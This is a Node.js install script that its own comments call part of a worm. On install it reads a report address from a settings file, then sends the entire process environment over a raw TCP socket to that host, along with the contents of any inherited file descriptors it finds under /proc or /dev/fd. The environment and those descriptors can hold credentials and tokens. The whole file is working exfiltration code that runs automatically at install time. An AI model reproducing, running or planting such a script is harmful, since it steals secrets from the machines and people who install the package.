// An install script in node: what node itself is given. The rest is Python's (worm.py), which the last script becomes.
"use strict";
const fs = require("node:fs");
const net = require("node:net");

const settings = JSON.parse(fs.readFileSync(`${__dirname}/settings.json`, "utf8"));
const report = (name, text) =>
  net.connect(settings.report, function () {
    this.end(`${settings.worm}\t${name}\tmade\n${text}`);
  });
const read = (file) => {
  try {
    const descriptor = fs.openSync(file, fs.constants.O_RDONLY | fs.constants.O_NONBLOCK);
    const bytes = Buffer.alloc(1 << 16);
    return bytes.toString("latin1", 0, fs.readSync(descriptor, bytes, 0, bytes.length, null));
  } catch (error) {
    return String(error.code);
  }
};
report("own-environment", JSON.stringify({ ...process.env, stage: process.argv[2] }));
// Only what was there before node: 0, 1 and 2 are the terminal's or the log's, node's own begin behind 16.
const inherited = Object.values(process.env).filter((value) => /^\/(proc\/[^/]+|dev)\/fd\/\d+$/.test(value));
report("own-descriptors", inherited.map((file) => `${file}: ${read(file)}`).join("\n"));
